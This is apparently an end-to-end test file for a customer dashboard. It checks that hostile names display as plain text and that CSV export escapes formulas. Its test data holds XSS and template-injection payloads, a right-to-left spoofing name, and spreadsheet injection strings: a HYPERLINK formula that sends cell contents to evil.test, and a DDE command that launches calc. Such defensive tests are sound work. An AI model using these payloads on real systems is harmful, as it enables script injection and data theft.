import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import { expectNoSidewaysScroll, openPage } from '../support/dashboard.ts'
import { api, unique } from '../support/service.ts'

describe('a name', () => {
  it.each([
    ['of HTML', '<img src=x onerror="document.title=\'run\'"><script>alert(1)</script>'],
    ['from right to left', '\u202Eשלום evil\u202C عالم'],
    ['of emoji', '👩‍👩‍👧‍👦🏳️‍🌈 Zoë'],
    ['of 200 characters', 'W'.repeat(200)],
    ['of a template', '{{constructor.constructor("alert(1)")()}} ${1+1}'],
  ])('%s is text, in the list and on its page, also on a phone', async (_, name) => {
    const id = unique('hostile')
    expect((await api.put(`/customers/${id}`, { name })).status).toBe(201)
    const page = await openPage(`/customers?q=${id}`, { phone: true })
    await page.getByRole('link', { name, exact: true }).waitFor()
    expect(await page.locator('main img').count()).toBe(0)
    await expectNoSidewaysScroll(page)
    await page.getByRole('link', { name, exact: true }).click()
    const title = page.getByRole('heading', { level: 1 })
    await title.filter({ hasText: name }).waitFor()
    expect(await title.locator('bdi').textContent()).toBe(name)
    expect(await page.title()).not.toBe('run')
    await expectNoSidewaysScroll(page)
  })
})

describe('a CSV file', () => {
  it('holds what was in the list, and nothing that a spreadsheet would calculate', async () => {
    const prefix = unique('csv')
    const names = [
      '=HYPERLINK("https://evil.test/?"&A1,"Click")',
      "+1+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1,2)',
      'Plain, with "quotes"',
      'שלום 👩‍👩‍👧‍👦',
    ]
    for (const [at, name] of names.entries())
      expect((await api.put(`/customers/${prefix}-${at}`, { name })).status).toBe(201)
    const page = await openPage(`/customers?q=${prefix}`)
    await page.getByRole('link', { name: names[4] ?? '' }).waitFor()
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.getByRole('button', { name: 'Save as CSV' }).click(),
    ])
    expect(download.suggestedFilename()).toBe('customers.csv')
    const text = readFileSync(await download.path(), 'utf8')
    expect(text.startsWith('\uFEFF')).toBe(true)
    const [head, ...rows] = cells(text.slice(1))
    expect(head?.slice(0, 2)).toEqual(['id', 'name'])
    const saved = Object.fromEntries(rows.map(([id = '', name = '']) => [id, name]))
    const wanted = names.map((name, at) => [`${prefix}-${at}`, at < 4 ? `'${name}` : name])
    expect(saved).toEqual(Object.fromEntries(wanted))
  })
})

/** The cells of a CSV file (RFC 4180). */
function cells(text: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]]
  for (const [, quoted, bare, end] of text.matchAll(
    /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g,
  )) {
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '')
    if (end === '\r\n') rows.push([])
    if (end === '') break
  }
  return rows
}
